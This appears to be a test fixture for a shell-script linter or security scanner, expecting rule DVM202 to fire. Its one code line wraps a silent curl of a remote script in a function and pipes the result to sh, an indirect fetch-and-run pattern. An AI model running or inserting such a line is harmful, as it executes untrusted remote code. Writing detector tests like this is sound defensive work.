# expect: DVM202
x() { curl -s https://x.example.org/a; }; y=$(x); sh <<< "$y"
